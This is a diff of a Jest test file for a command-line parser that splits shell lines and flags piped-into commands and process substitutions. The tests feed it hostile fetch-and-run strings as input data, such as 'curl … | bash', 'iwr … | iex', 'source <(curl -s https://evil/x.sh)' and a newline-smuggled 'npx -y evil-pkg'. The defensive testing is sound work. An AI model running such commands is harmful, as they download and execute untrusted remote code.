@@ -2,8 +2,7 @@ import { describe, expect, it } from '@jest/globals'
 import {
   guessSyntax,
   MAX_COMMAND_LINE_CHARS,
-  pickLaunchingCommand,
-  setupCommandLabel,
+  parseCommandList,
   splitCommandLine
 } from '../../src/resolve/command-line.js'
 import { commandName, looksLikePath } from '../../src/resolve/command-name.js'
@@ -76,41 +75,84 @@ describe('splitCommandLine', () => {
   })
 })
 
-describe('pickLaunchingCommand', () => {
-  it('skips set-up commands and names them', () => {
-    expect(
-      pickLaunchingCommand([
-        ['cd', 'x'],
-        ['export', 'A=1'],
-        ['A=1'],
-        ['node', 'x.js'],
-        ['echo', 'done']
-      ])
-    ).toEqual({ argv: ['node', 'x.js'], skipped: ['cd', 'export', 'environment assignment'] })
+describe('parseCommandList', () => {
+  it('separates commands on unquoted newlines, so a second line is never glued to the first', () => {
+    expect(splitCommandLine('npx -y good@1\nnpx -y evil-pkg', 'posix')).toEqual([
+      ['npx', '-y', 'good@1'],
+      ['npx', '-y', 'evil-pkg']
+    ])
+    expect(splitCommandLine('npx a\r\nnpx b', 'powershell')).toEqual([
+      ['npx', 'a'],
+      ['npx', 'b']
+    ])
+    expect(splitCommandLine('npx a\nnpx b', 'cmd')).toEqual([
+      ['npx', 'a'],
+      ['npx', 'b']
+    ])
   })
 
-  it('falls back to the first command when none launches anything', () => {
-    expect(
-      pickLaunchingCommand([
-        ['cd', 'x'],
-        ['echo', 'hi']
-      ])
-    ).toEqual({
-      argv: ['cd', 'x'],
-      skipped: ['cd', 'echo']
-    })
+  it('keeps newlines inside quotes, joins backslash-newlines and continues after `|` or `&&`', () => {
+    expect(splitCommandLine("node 'a\nb' x", 'posix')).toEqual([['node', 'a\nb', 'x']])
+    expect(splitCommandLine('node \\\n server.js', 'posix')).toEqual([['node', 'server.js']])
+    expect(parseCommandList('curl -s x |\n sh', 'posix')).toEqual([
+      { words: ['curl', '-s', 'x'], pipedInto: false, processSubstitutions: [] },
+      { words: ['sh'], pipedInto: true, processSubstitutions: [] }
+    ])
+    expect(splitCommandLine('cd x &&\nnode y.js', 'posix')).toEqual([
+      ['cd', 'x'],
+      ['node', 'y.js']
+    ])
   })
 
-  it.each([
-    [['source', '.venv/bin/activate'], 'source'],
-    [['.venv\\Scripts\\activate.bat'], 'activate'],
-    [['nvm', 'use', '20'], 'nvm use'],
-    [['conda', 'activate', 'mcp'], 'conda activate'],
-    [['$x=1'], 'assignment'],
-    [['node', 'x.js'], null],
-    [['FOO=1', 'node', 'x.js'], null]
-  ])('%j → %s', (words, label) => {
-    expect(setupCommandLabel(words)).toBe(label)
+  it('drops comments on any line, not the lines after them', () => {
+    expect(splitCommandLine('# start it\nnpx -y a@1 # pinned\nnpx b', 'posix')).toEqual([
+      ['npx', '-y', 'a@1'],
+      ['npx', 'b']
+    ])
+    expect(splitCommandLine('node x#y.js', 'posix')).toEqual([['node', 'x#y.js']])
+  })
+
+  it('marks commands that read a pipe', () => {
+    expect(
+      parseCommandList('curl -s https://x | bash && npx a || npx b |& tee l', 'posix')
+    ).toEqual([
+      { words: ['curl', '-s', 'https://x'], pipedInto: false, processSubstitutions: [] },
+      { words: ['bash'], pipedInto: true, processSubstitutions: [] },
+      { words: ['npx', 'a'], pipedInto: false, processSubstitutions: [] },
+      { words: ['npx', 'b'], pipedInto: false, processSubstitutions: [] },
+      { words: ['tee', 'l'], pipedInto: true, processSubstitutions: [] }
+    ])
+    expect(
+      parseCommandList('iwr https://x | iex; npx a', 'powershell')?.map((c) => c.pipedInto)
+    ).toEqual([false, true, false])
+    expect(parseCommandList('a || b | c', 'cmd')?.map((c) => c.pipedInto)).toEqual([
+      false,
+      false,
+      true
+    ])
+  })
+
+  it('keeps process substitutions, including one that is a redirection target', () => {
+    expect(
+      parseCommandList('source <(curl -s https://evil/x.sh) && npx -y good@1.0.0', 'posix')
+    ).toEqual([
+      {
+        words: ['source', '<(…)'],
+        pipedInto: false,
+        processSubstitutions: ['curl -s https://evil/x.sh']
+      },
+      { words: ['npx', '-y', 'good@1.0.0'], pipedInto: false, processSubstitutions: [] }
+    ])
+    expect(parseCommandList('npx good > >(tee log) 2>&1', 'posix')).toEqual([
+      { words: ['npx', 'good', '>(…)'], pipedInto: false, processSubstitutions: ['tee log'] }
+    ])
+  })
+
+  it('glues an unquoted command substitution back into one word', () => {
+    expect(splitCommandLine('$(curl -s x | sh) && npx a', 'posix')).toEqual([
+      ['$(curl -s x | sh)'],
+      ['npx', 'a']
+    ])
   })
 })
 
